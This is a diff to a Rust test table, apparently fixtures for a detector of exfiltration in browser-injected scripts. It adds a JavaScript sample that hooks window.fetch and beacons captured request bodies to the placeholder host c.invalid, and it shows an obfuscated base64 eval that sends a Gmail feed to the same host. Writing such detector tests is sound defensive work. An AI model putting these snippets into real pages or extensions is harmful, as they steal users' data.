@@ -124,6 +124,15 @@ fn the_other_roads_out() {
             "mail.text fetch c.invalid",
         ),
         (
+            "",
+            "const script = document.createElement('script');\
+             script.textContent = 'const ask = fetch; window.fetch = function (url, given) { document.documentElement.dispatchEvent(\
+               new CustomEvent(`asked`, { detail: given?.body })); return ask.apply(this, arguments); }';\
+             document.documentElement.addEventListener('asked', (e) => { new Image().src = 'https://c.invalid/?' + e.detail; });\
+             document.head.append(script);",
+            "page-hook.body image c.invalid",
+        ),
+        (
             "eval(atob('ZmV0Y2goImh0dHBzOi8vbWFpbC5nb29nbGUuY29tL21haWwvZmVlZC9hdG9tIikudGhlbihyPT5yLnRleHQoKSkudGhlbih0PT5mZXRjaCgiaHR0cHM6Ly9jLmludmFsaWQiLHtib2R5OnR9KSk='))",
             "",
             "mail.feed fetch c.invalid",
